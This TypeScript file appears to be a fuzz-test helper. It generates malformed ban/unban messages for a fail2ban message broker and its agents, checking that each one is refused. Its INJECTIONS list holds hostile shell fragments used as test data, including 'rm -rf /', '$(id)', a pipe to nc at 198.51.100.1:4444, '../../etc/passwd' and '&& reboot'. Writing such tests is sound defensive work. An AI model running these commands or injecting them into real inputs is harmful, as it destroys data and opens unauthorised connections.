/**
 * Deterministic generators of malformed messages for the fuzz test. Every message made
 * here must be refused: none is a valid event for a mapped jail, by construction.
 */

export interface FuzzMessage {
  topic: string;
  payload: Buffer;
}

/** mulberry32: a small seeded PRNG, so a failing run can be replayed. */
export function randomSource(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

type Random = () => number;
const pick = <T>(random: Random, items: readonly T[]): T => items[Math.floor(random() * items.length)]!;
const int = (random: Random, max: number) => Math.floor(random() * max);

const INJECTIONS = [';rm -rf /', '$(id)', '`id`', '| nc 198.51.100.1 4444', "'", '"', '203.0.113.5\nid', '*', '../../etc/passwd', '%00', '<F2B_END_COMMAND>', '&& reboot', '\u0000', '${IFS}', '\\'];
const NEVER_BAN = ['127.0.0.1', '127.1.2.3', '::1', '0.0.0.0', '::', '::ffff:127.0.0.1'];

/** Near-valid addresses: one mutation away from something fail2ban would store happily. */
function nearValidAddress(random: Random): string {
  const octet = () => String(int(random, 256));
  const v4 = [octet(), octet(), octet(), octet()];
  switch (int(random, 14)) {
    case 0: v4[int(random, 4)] = String(256 + int(random, 744)); return v4.join('.');
    case 1: return [...v4, octet()].join('.');
    case 2: return v4.slice(0, 3).join('.');
    case 3: v4[int(random, 4)] = `0${int(random, 10)}`; return v4.join('.');
    case 4: return `${v4.join('.')}${pick(random, ['x', '.', ':', '/', '/33', '/-1', '/ 24', '#'])}`;
    case 5: return `${pick(random, ['+', '-', '0x', '::1.'])}${v4.join('.')}`;
    case 6: return `${v4.join('.')}/${int(random, 8)}`; // wider than /8
    case 7: return `2001:db8:${Array.from({ length: 7 }, () => int(random, 65536).toString(16)).join(':')}`; // 9 groups
    case 8: return `2001:db8:::${int(random, 65536).toString(16)}`;
    case 9: return `fe80::${int(random, 65536).toString(16)}%eth0`;
    case 10: return `2001:db8::${int(random, 65536).toString(16)}/${129 + int(random, 100)}`;
    case 11: return `0x${int(random, 0xffffffff).toString(16)}`;
    case 12: return v4.join(',');
    default: return `${v4.join('.')}${pick(random, INJECTIONS)}`;
  }
}

function randomBytes(random: Random): Buffer {
  const bytes = Buffer.from(Array.from({ length: 1 + int(random, 120) }, () => int(random, 256)));
  bytes[int(random, bytes.length)] = pick(random, [0x00, 0x80, 0xff, 0x3b, 0x3f, 0x2a]); // never an address
  return bytes;
}

function wrongJson(random: Random): string {
  const wrongValue = () => pick(random, [42, -1, 1.5, true, false, null, [], ['203.0.113.9'], {}, { ip: '203.0.113.9' }, '', 'x'.repeat(60)]);
  switch (int(random, 6)) {
    case 0: return JSON.stringify({ ip: wrongValue() });
    case 1: return JSON.stringify({ ip: `203.0.113.${int(random, 250) + 1}`, origin: pick(random, [7, '', 'a b', 'x'.repeat(65), ['h'], { n: 1 }, 'bad/origin', 'x;y']) });
    case 2: return JSON.stringify({ address: `203.0.113.${int(random, 250) + 1}` });
    case 3: return JSON.stringify([`203.0.113.${int(random, 250) + 1}`]);
    case 4: return `{"ip": "203.0.113.${int(random, 250) + 1}"${pick(random, ['', ',', ', "origin":', '}}'])}`;
    default: return JSON.stringify({ ip: nearValidAddress(random), origin: 'fuzzer' });
  }
}

/** Messages on valid topics that pass the broker and must be refused by every agent. */
export function agentLevelMessage(random: Random, jails: readonly string[]): FuzzMessage {
  const action = pick(random, ['ban', 'unban', 'banip', 'unbanip']);
  const topic = `f2b/${pick(random, jails)}/${action}`;
  switch (int(random, 6)) {
    case 0: return { topic, payload: Buffer.from(nearValidAddress(random)) };
    case 1: return { topic, payload: Buffer.from(`${pick(random, INJECTIONS)}${int(random, 2) ? '203.0.113.7' : ''}`) };
    case 2: return { topic, payload: randomBytes(random) };
    case 3: return { topic, payload: Buffer.from(wrongJson(random)) };
    case 4: return { topic: topic.replace(/unban(ip)?$/, 'ban'), payload: Buffer.from(pick(random, NEVER_BAN)) }; // unbans of them pass
    default: return { topic: `f2b/unmapped${int(random, 50)}/${action}`, payload: Buffer.from(`203.0.113.${int(random, 250) + 1}`) };
  }
}

/** Messages the broker itself refuses (and closes the connection for): bad topics, oversize. */
export function brokerLevelMessage(random: Random): FuzzMessage {
  const ip = Buffer.from(`203.0.113.${int(random, 250) + 1}`);
  switch (int(random, 7)) {
    case 0: return { topic: `f2b/sshd/${pick(random, ['flush', 'BAN', 'ban2', 'reload', 'stop', '__proto__'])}`, payload: ip };
    case 1: return { topic: `f2b/sshd/ban/${int(random, 9)}`, payload: ip };
    case 2: return { topic: pick(random, ['f2b', 'f2b/sshd', 'sshd/ban', 'F2B/sshd/ban', '$SYS/broker/load', 'f2b//ban']), payload: ip };
    case 3: return { topic: `f2b/${pick(random, ['ss hd', 'a;b', '-x', '.', 'x'.repeat(70), 'jail\u0001'])}/ban`, payload: ip };
    case 4: return { topic: 'f2b/sshd/ban', payload: Buffer.alloc(1025 + int(random, 3000), 0x31) };
    case 5: return { topic: `${'x/'.repeat(int(random, 5) + 1)}ban`, payload: ip };
    default: return { topic: `f2b/sshd/ban`, payload: Buffer.concat([ip, Buffer.alloc(1100, 0x20)]) };
  }
}
